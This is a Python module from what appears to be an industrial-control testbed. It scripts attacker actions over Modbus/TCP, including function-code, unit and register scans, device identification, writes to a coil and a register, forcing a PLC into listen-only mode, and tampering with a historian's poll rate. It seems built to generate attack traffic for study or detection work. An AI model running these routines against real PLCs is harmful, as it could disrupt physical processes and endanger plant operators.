"""What the attacker does over Modbus/TCP."""

from __future__ import annotations

import asyncio
import socket
import struct
import time
from collections.abc import Awaitable, Callable
from pathlib import Path

from pymodbus.client import AsyncModbusTcpClient
from pymodbus.pdu import ModbusPDU

from testbed.commands import RangeError
from testbed.plant_modbus import PORT, UNIT_ID

SCAN_PAUSE_S = 0.05
ANSWER_WAIT_S = 2.0
LISTEN_ONLY_S = 2.0
RHYTHM_S = 0.25  # instead of 0.8
RHYTHM_HELD_S = 9.0
STOPPED_HELD_S = 8.0
NOWHERE = b"\xff\xff"  # an address the PLC does not have: a write there is refused, the scan changes nothing

# Function code → a well-formed request body. Codes without one are tried bare.
SCAN_BODIES: dict[int, bytes] = {
    **{code: b"\x00\x00\x00\x01" for code in (1, 2, 3, 4)},
    **{code: NOWHERE + b"\x00\x00" for code in (5, 6)},
    8: b"\x00\x00\xa5\x37",
    15: NOWHERE + b"\x00\x01\x01\x00",
    16: NOWHERE + b"\x00\x01\x02\x00\x00",
    20: b"\x07\x06\x00\x01\x00\x00\x00\x01",
    21: b"\x09\x06\x00\x01\x00\x00\x00\x01\x00\x00",
    22: NOWHERE + b"\xff\xff\x00\x00",
    23: b"\x00\x00\x00\x01" + NOWHERE + b"\x00\x01\x02\x00\x00",
    24: NOWHERE,
    43: b"\x0e\x01\x00",
}
SCANNED = (*range(1, 25), *range(40, 48), *range(65, 73), *range(90, 92), *range(100, 111), 125, 126)


def function_scan(target: str) -> str:
    """Ask for each function code once, and note which ones the PLC knows."""
    known = []
    with socket.create_connection((target, PORT), ANSWER_WAIT_S) as link:
        for transaction, code in enumerate(SCANNED, 1):
            body = bytes((code,)) + SCAN_BODIES.get(code, b"")
            link.sendall(struct.pack(">HHHB", transaction, 0, len(body) + 1, UNIT_ID) + body)
            header = _exactly(link, 8)
            _exactly(link, int.from_bytes(header[4:6], "big") - 2)
            if not header[7] & 0x80:
                known.append(code)
            time.sleep(SCAN_PAUSE_S)
    return f"{len(SCANNED)} function codes, answered: {known}"


def coil_write(target: str) -> str:
    _with_client(target, lambda client: client.write_coil(500, True, device_id=UNIT_ID))
    return "accepted: coil 500 = on"


def register_write(target: str) -> str:
    _with_client(target, lambda client: client.write_register(400, 65000, device_id=UNIT_ID))
    return "accepted: register 400 = 65000"


def register_scan(target: str) -> str:
    """Read block after block through the whole address range: most answers are exceptions."""

    async def walk() -> str:
        client = await _connect(target)
        refused = 0
        for address in range(0, 4000, 100):
            answer = await client.read_holding_registers(address, count=100, device_id=UNIT_ID)
            refused += answer.isError()
            await asyncio.sleep(SCAN_PAUSE_S)
        client.close()
        return f"40 blocks asked for, {refused} refused"

    return asyncio.run(walk())


def unit_scan(target: str) -> str:
    """Ask unit after unit behind the address."""
    answered = []
    with socket.create_connection((target, PORT), ANSWER_WAIT_S) as link:
        for unit in range(1, 33):
            link.sendall(struct.pack(">HHHB", unit, 0, 6, unit) + b"\x03\x00\x00\x00\x01")
            header = _exactly(link, 8)
            _exactly(link, int.from_bytes(header[4:6], "big") - 2)
            if not header[7] & 0x80:
                answered.append(unit)
            time.sleep(SCAN_PAUSE_S)
    return f"32 units asked, answered: {answered}"


def device_identification(target: str) -> str:
    answer = _with_client(target, lambda client: client.read_device_information(read_code=1, device_id=UNIT_ID))
    names = getattr(answer, "information", {})
    return "identified as " + ", ".join(value.decode(errors="replace") for value in names.values())


def listen_only(target: str) -> str:
    """Make the device deaf to everybody, then bring it back, so that the plant lives on."""

    async def play() -> str:
        client = await _connect(target)
        await client.diag_force_listen_only(no_response_expected=True, device_id=UNIT_ID)
        await asyncio.sleep(LISTEN_ONLY_S)
        await client.diag_restart_communication(False, device_id=UNIT_ID)
        client.close()
        return f"silent for {LISTEN_ONLY_S:.0f} s"

    return asyncio.run(play())


def rhythm_change(control: Path) -> str:
    """On the historian itself: the poll goes on, only faster."""
    control.write_text(str(RHYTHM_S), encoding="ascii")
    time.sleep(RHYTHM_HELD_S)
    control.unlink()
    return f"polled every {RHYTHM_S} s for {RHYTHM_HELD_S:.0f} s"


def poll_stopped(control: Path) -> str:
    """On the historian itself: the poll falls silent, its connection and its heartbeat stay."""
    control.write_text("3600", encoding="ascii")
    time.sleep(STOPPED_HELD_S)
    control.unlink()
    return f"no poll for {STOPPED_HELD_S:.0f} s"


async def _connect(target: str) -> AsyncModbusTcpClient:
    client = AsyncModbusTcpClient(target, port=PORT, timeout=ANSWER_WAIT_S, retries=0)
    if not await client.connect():
        raise RangeError(f"no Modbus server at {target}:{PORT}")
    return client


def _with_client(target: str, ask: Callable[[AsyncModbusTcpClient], Awaitable[ModbusPDU]]) -> ModbusPDU:
    async def play() -> ModbusPDU:
        client = await _connect(target)
        answer = await ask(client)
        await asyncio.sleep(0.1)
        client.close()
        if answer.isError():
            raise RangeError(f"the Modbus server at {target} refused: {answer}")
        return answer

    return asyncio.run(play())


def _exactly(link: socket.socket, count: int) -> bytes:
    received = b""
    while len(received) < count:
        more = link.recv(count - len(received))
        if not more:
            raise RangeError("the Modbus server closed the connection during the scan")
        received += more
    return received
